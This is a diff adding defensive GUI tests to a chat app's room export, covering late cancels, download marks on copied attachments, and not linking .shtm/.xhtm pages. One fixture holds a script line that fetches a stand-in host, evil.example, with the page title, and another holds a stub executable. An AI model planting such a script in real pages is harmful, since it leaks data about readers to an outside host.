@@ -10,6 +10,7 @@ import hashlib
 import html
 import json
 import os
+import threading
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -32,13 +33,14 @@ from PySide6.QtWidgets import (
 )
 from test_app_flows import seed
 
+from bucket_chat_desktop import download_mark, osfiles
 from bucket_chat_desktop.gui import room_export
 from bucket_chat_desktop.gui.controller import Controller
 from bucket_chat_desktop.gui.main_window import MainWindow
 from bucket_chat_desktop.gui.models.timeline_model import Roles
 from bucket_chat_desktop.gui.room_export import RoomExport
 from bucket_chat_desktop.keys import load_or_create_identity, open_key_store
-from bucket_chat_desktop.protocol.attachments import blob_path, file_content
+from bucket_chat_desktop.protocol.attachments import blob_path, file_content, is_risky_to_open
 from bucket_chat_desktop.protocol.event import MESSAGE
 from bucket_chat_desktop.settings import Settings, StorageSettings
 from bucket_chat_desktop.storage.local import LocalStorage
@@ -404,6 +406,124 @@ def test_a_cancelled_export_leaves_the_users_files(app: App, tmp_path: Path) -> 
     assert task.cancelled()
     assert (docs / "Q4_files" / "report.pdf").read_bytes() == b"ALICE'S REAL REPORT"
     assert sorted(p.name for p in docs.iterdir()) == ["Q4_files"]
+
+
+def test_cancel_while_the_page_takes_its_name_says_the_export_finished(
+    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Red team rt65 (finding 3): Cancel pressed while the finished page was flushed,
+    renamed over the user's earlier page (whose replacement the dialog asked about) and
+    synced: the rename was done, then the cancel was raised, every attachment the new
+    page links was removed, and the app said "cancelled: nothing was written". Now the
+    step runs to its end: the page and its files stay, and the notice says the export
+    finished, the cancel having come too late. The folder's sync is made slow (a slow
+    disk); the export, the storage, the window and its Cancel button are real."""
+    out = tmp_path / "out"
+    out.mkdir()
+    page = out / "design.html"
+    page.write_bytes(b"ALICE'S EARLIER EXPORT, replaced on purpose")
+    syncing = threading.Event()
+    go_on = threading.Event()
+    real_fsync_dir = osfiles.fsync_dir
+
+    def slow_disk(folder: Any) -> None:  # the page's folder, synced once it took its name
+        if isinstance(folder, Path) and folder == out and not syncing.is_set():
+            syncing.set()
+            go_on.wait(10)
+        real_fsync_dir(folder)
+
+    monkeypatch.setattr(osfiles, "fsync_dir", slow_disk)
+    told: list[tuple[str, str]] = []
+    app.controller.error.connect(lambda what, msg: told.append((what, msg)))
+    app.feature.choose = lambda _s, _n: (str(page), "html")  # "replace it?": yes
+    task = app.feature.start(app.key)
+    assert task is not None
+    try:
+        app.qtbot.waitUntil(syncing.is_set, timeout=20000)
+        progress = app.feature.progress
+        assert progress is not None
+        [cancel] = [b for b in progress.findChildren(QPushButton) if b.text() == "Cancel"]
+        cancel.click()
+        app.qtbot.wait(100)  # the cancel reaches the task while the page is synced
+        assert not task.done()
+    finally:
+        go_on.set()
+    app.qtbot.waitUntil(task.done, timeout=10000)
+    assert not task.cancelled() and told == []
+    html = page.read_text("utf-8")
+    assert "ALICE'S EARLIER EXPORT" not in html
+    assert 'href="design_files/report.pdf"' in html
+    assert (out / "design_files" / "report.pdf").read_bytes() == REPORT
+    box = app.feature.notice
+    assert box is not None and box.windowTitle() == "Room exported"
+    assert "the cancel came after the page was written" in box.text()
+    assert "1 attachment(s) copied" in box.text()
+    shots = Path(os.environ.get("BUCKET_CHAT_SHOTS") or tmp_path)
+    shots.mkdir(parents=True, exist_ok=True)
+    box.grab().save(str(shots / "export-cancel-too-late.png"))
+    assert app.feature.task is None and app.feature.action.isEnabled()
+
+
+PROGRAM = b"MZ\x90\x00 a hostile member's program"
+
+
+@pytest.mark.parametrize("app", [[("setup.exe", PROGRAM)]], indirect=True)
+def test_the_files_an_export_copies_are_marked_as_downloaded(
+    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Red team rt65 (finding 4): Open and Save as… mark their copies as downloaded
+    (Mark-of-the-Web, macOS quarantine), the export's were not: double-clicked in the
+    folder **Open folder** shows, ``setup.exe`` ran without SmartScreen's prompt and a
+    PDF or Office file opened outside Protected View. As on Windows (the mark is the
+    stream ``<file>:Zone.Identifier``; on Linux a file of that name beside it)."""
+    monkeypatch.setattr(download_mark, "PLATFORM", "win32")
+    out = tmp_path / "out"
+    out.mkdir()
+    app.feature.choose = lambda _s, _n: (str(out / "design.html"), "html")
+    app.feature.start(app.key)
+    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
+    box = app.feature.notice
+    assert box is not None and box.windowTitle() == "Room exported", box.text()
+    files = out / "design_files"
+    assert (files / "report.pdf").read_bytes() == REPORT
+    assert (files / "setup.exe").read_bytes() == PROGRAM
+    for name in ("report.pdf", "setup.exe"):
+        mark = files / f"{name}:Zone.Identifier"
+        assert mark.read_bytes() == b"[ZoneTransfer]\r\nZoneId=3\r\n", name
+    app.qtbot.waitUntil(lambda: app.feature.task is None)
+
+
+WEB_PAGE = (
+    b"Agenda for Monday\n"
+    + b"- budget review\n" * 320  # past the 4 KB the bytes are looked at
+    + b'<script>fetch("https://evil.example/opened?by=" + document.title)</script>\n'
+)
+
+
+@pytest.mark.parametrize(
+    "app", [[("agenda.shtm", WEB_PAGE), ("minutes.xhtm", WEB_PAGE + b" ")]], indirect=True
+)
+def test_a_web_page_named_shtm_or_xhtm_is_copied_but_not_linked(app: App, tmp_path: Path) -> None:
+    """Red team rt65 (finding 5): Chrome and Edge give ``.shtm`` text/html and ``.xhtm``
+    application/xhtml+xml (their own table, which no platform overrides), but neither
+    was a web page to the app: the export linked ``design_files/agenda.shtm`` from the
+    page read in that browser (one click ran the member's script) and the app offered
+    Open. Now both are save-only, and the export copies them without a link."""
+    out = tmp_path / "out"
+    out.mkdir()
+    app.feature.choose = lambda _s, _n: (str(out / "design.html"), "html")
+    app.feature.start(app.key)
+    app.qtbot.waitUntil(lambda: app.feature.notice is not None, timeout=20000)
+    box = app.feature.notice
+    assert box is not None and box.windowTitle() == "Room exported", box.text()
+    html = (out / "design.html").read_text("utf-8")
+    assert (out / "design_files" / "agenda.shtm").read_bytes() == WEB_PAGE
+    assert (out / "design_files" / "minutes.xhtm").read_bytes() == WEB_PAGE + b" "
+    assert 'href="design_files/report.pdf"' in html  # an ordinary file is linked
+    for name in ("agenda.shtm", "minutes.xhtm"):
+        assert f'href="design_files/{name}"' not in html
+        assert is_risky_to_open(name)  # the app's Open is disabled for it
+    app.qtbot.waitUntil(lambda: app.feature.task is None)
 
 
 # -- a key another room does not trust -----------------------------------------------------
